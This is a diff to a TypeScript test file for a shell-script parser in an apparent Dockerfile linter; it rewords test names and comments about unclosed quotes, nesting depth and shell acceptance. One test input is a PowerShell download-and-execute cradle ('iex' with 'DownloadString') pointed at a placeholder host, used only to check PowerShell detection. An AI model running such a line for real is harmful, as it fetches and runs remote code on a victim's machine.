@@ -6,7 +6,7 @@ import { defaultConfig, emptyProject, lint } from '../../server/engine/index.ts'
 import { parseScript } from '../../server/engine/shell/parse.ts';
 import { completed } from '../support/project.ts';
 
-/** Texts that no shell takes: what is said of each, and the text from the place on where it is said. */
+/** Texts that no shell accepts, each with the problem and the text from its place on. */
 const broken: readonly (readonly [text: string, reason: string, from: string])[] = [
   ["echo 'a && b", 'a quote is not closed', "'a && b"],
   ['echo "a && b', 'a quote is not closed', '"a && b'],
@@ -42,7 +42,7 @@ const broken: readonly (readonly [text: string, reason: string, from: string])[]
   ['echo ${a', 'an expansion is not closed', '${a'],
 ];
 
-/** The same of texts that only bash would take, were they whole. */
+/** The same for texts that only bash would accept if they were complete. */
 const brokenForBash: typeof broken = [
   ["echo $'a", 'a quote is not closed', "'a"],
   ['cat <(a', 'a substitution is not closed', '<(a'],
@@ -71,12 +71,12 @@ const sound = [
 
 const read = (text: string) =>
   parseScript({ text, offset: 0, interpreter: 'bash', escape: '\\', env: new Map(), verbatim: true });
-/** What a shell says without running anything. */
+/** Whether a shell accepts a text, without running anything. */
 const isTaken = (text: string, shell = 'sh') => spawnSync(shell, ['-n'], { input: text }).status === 0;
 
-describe('a script that no shell takes', () => {
+describe('a script that no shell accepts', () => {
   for (const [text, reason, from] of [...broken, ...brokenForBash])
-    it(`is said to be broken: ${text}`, () => {
+    it(`is reported as broken: ${text}`, () => {
       const { fault, partial, beyond } = read(text);
       assert.equal(fault?.reason, reason);
       assert.equal(text.slice(fault?.span.start).trimEnd(), from);
@@ -84,34 +84,34 @@ describe('a script that no shell takes', () => {
       assert.deepEqual([partial, beyond], [true, undefined]);
     });
 
-  it('is refused by the shells themselves', () => {
+  it('is also refused by the shells themselves', () => {
     // A script in quotes is a word to the outer shell.
     for (const [text] of broken) assert.equal(isTaken(text), text.startsWith('sh -c'), text);
     for (const [text] of brokenForBash) assert.ok(!isTaken(text, 'bash'), text);
   });
 
   for (const text of sound)
-    it(`is none that is whole: ${text}`, () => assert.equal(read(text).fault, undefined));
+    it(`is not reported if it is complete: ${text}`, () => assert.equal(read(text).fault, undefined));
 
-  it('is none that the shells themselves take', () => {
+  it('is not reported if the shells accept it', () => {
     for (const text of sound) assert.ok(isTaken(text), text);
   });
 
-  it('is said to be nested too deep where the reader gives up', () => {
+  it('is reported as nested too deep if the reader gives up', () => {
     const { beyond, fault } = read(`${'if a; then '.repeat(400)}b${'; fi'.repeat(400)}`);
     assert.deepEqual([beyond, fault], ['is nested too deep', undefined]);
   });
 
-  it('is said of its first fault', () => {
+  it('is reported at its first error', () => {
     const text = 'a; ;; b > ; c "';
     const { fault } = read(text);
     assert.equal(text.slice(fault?.span.start), ';; b > ; c "');
   });
 
-  it('is none where dash takes it, though bash does not', () =>
+  it('is not reported if dash accepts it, though bash does not', () =>
     assert.equal(read('f() a; f').fault, undefined));
 
-  it('is PowerShell where its words say so: the image has brought that shell', () => {
+  it('is read as PowerShell if it looks like it: the image has installed that shell', () => {
     const script = read("iex ((new-object net.webclient).DownloadString('https://x.test/a.ps1')); b $env:C");
     assert.equal(script.fault, undefined);
     assert.equal(script.interpreter, 'powershell');
@@ -127,7 +127,7 @@ function problemsOf(path: string, kind: 'dockerfile' | 'compose', text: string):
   });
 }
 
-describe('a script that cannot be read to its end is a problem', () => {
+describe('an incomplete script is a problem', () => {
   const said = 'This script cannot be read to its end as sh or bash: a quote is not closed.';
   const instructions = [
     "RUN echo 'a; b",
@@ -195,6 +195,6 @@ describe('words that BuildKit cannot resolve', () => {
     'ONBUILD ENV A="b',
     'USER $U',
   ])
-    it(`are none: ${text}`, () =>
+    it(`are no problem: ${text}`, () =>
       assert.deepEqual(problemsOf('Dockerfile', 'dockerfile', `FROM alpine:3.20\n${text}\n`), []));
 });
